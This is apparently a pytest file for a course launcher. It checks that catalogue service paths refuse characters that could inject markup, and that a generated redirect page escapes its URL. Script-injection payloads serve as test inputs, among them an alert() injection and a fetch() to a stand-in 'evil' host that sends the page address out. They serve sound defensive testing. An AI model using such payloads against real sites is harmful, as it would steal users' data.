"""A catalogue's service path cannot smuggle markup into the redirect page."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from launcher.core.catalogue.model import parse_catalogue
from launcher.core.environments.browser import write_redirect_file
from launcher.core.errors import CatalogueError


def catalogue(path: str) -> str:
    return f"""
schema = 1
[[course]]
id = "c1"
code = "C1"
presentation = "24J"
title = "A course"
image = "localhost:5000/c1:1"
workspace = "/home/ou/work"
[[course.services]]
name = "Jupyter"
port = 8888
path = {path!r}
auth = "none"
"""


@pytest.mark.parametrize(
    "path", ["/lab", "/", "/openrefine/", "/tree?reset=1", "/a%20b", "/x;y=1,z@h:80/~u!$&()*+"]
)
def test_url_path_characters_are_accepted(path: str) -> None:
    assert parse_catalogue(catalogue(path), "c.toml").get("c1").services[0].path == path


@pytest.mark.parametrize(
    "path",
    [
        "/lab</script><script>alert(1)</script>",
        "/lab'onload='x",
        '/lab"x',
        "/a b",
        "/a#b",
        "/a%zz",
        "/a\\b",
        "/a`b",
        "/a{b}",
        "/ä",
    ],
)
def test_other_characters_are_refused(path: str) -> None:
    with pytest.raises(CatalogueError, match=r"services\[1\]\.path.*a web path starts with"):
        parse_catalogue(catalogue(path), "c.toml")


def test_the_redirect_page_escapes_the_address_it_carries(tmp_path: Path) -> None:
    url = "http://127.0.0.1:8351/lab</script><script>fetch('//evil/?'+document.URL)</script>&x"
    text = write_redirect_file(url, tmp_path / "open").read_text()
    assert text.count("<script>") == 1 and text.count("</script>") == 1  # only the page's own
    assert "<script>fetch" not in text and "&x" not in text
    script = text.split("<script>", 1)[1].split("</script>", 1)[0]
    argument = script.removeprefix("window.location.replace(").removesuffix(");")
    assert json.loads(argument) == url  # the browser goes to exactly that address
